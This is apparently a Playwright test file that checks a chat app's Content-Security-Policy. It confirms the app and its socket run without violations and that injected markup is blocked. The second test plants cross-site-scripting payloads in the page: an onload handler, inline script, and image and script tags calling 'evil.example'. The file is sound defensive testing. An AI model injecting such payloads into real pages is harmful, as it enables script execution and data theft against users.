import { expect, test, type Page } from '@playwright/test';
import { DEMO_ACCOUNTS, conversationWith, memberContext } from './chat-fixtures.js';

/**
 * The app shell's Content-Security-Policy (server/src/http/shell-content-policy.ts): the app itself
 * runs under it without one refusal, its chat socket included, and markup that got into the page
 * (as an unescaped name or message would) runs nothing and sends nothing to another host.
 */

/** Records every refusal of the policy, from before the first script of each page runs. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

test('the app, its chat and its live socket run under the policy without a refusal', async ({ browser, baseURL }) => {
  const sophie = await memberContext(browser, baseURL!, DEMO_ACCOUNTS.free);
  await recordViolations(sophie.page);
  const sockets: string[] = [];
  sophie.page.on('websocket', (ws) => sockets.push(new URL(ws.url()).pathname));
  const { conversation } = await conversationWith(sophie, DEMO_ACCOUNTS.premium.name);

  const response = await sophie.page.goto(`/chats/${conversation}`);
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  await expect(sophie.page.getByTestId('chat-input')).toBeEnabled();
  // The socket went up over WebSocket (connect-src), not only over polling.
  await expect.poll(() => sockets).toContain('/socket.io/');
  expect(await violations(sophie.page)).toEqual([]);
  await sophie.page.goto('/members');
  await sophie.page.waitForLoadState('networkidle');
  expect(await violations(sophie.page)).toEqual([]);
  await sophie.context.close();
});

test('markup injected into the page runs no script and loads nothing from another host', async ({ page }) => {
  await recordViolations(page);
  await page.goto('/');
  await expect(page.locator('#root')).not.toBeEmpty();
  await page.evaluate(() => {
    const w = window as unknown as { injected: string[] };
    w.injected = [];
    // What an unescaped message body would put into the page.
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/favicon.svg?x" onload="window.injected.push(\'onload\')"><img src="https://evil.example/steal.gif">';
    document.body.append(holder);
    const inline = document.createElement('script');
    inline.textContent = "window.injected.push('inline script')";
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/x.js';
    document.body.append(remote);
  });
  await expect.poll(() => violations(page)).toHaveLength(4);
  expect(await page.evaluate(() => (window as unknown as { injected: string[] }).injected)).toEqual([]);
  expect((await violations(page)).sort()).toEqual([
    'img-src https://evil.example/steal.gif',
    'script-src-attr inline',
    'script-src-elem https://evil.example/x.js',
    'script-src-elem inline',
  ]);
});
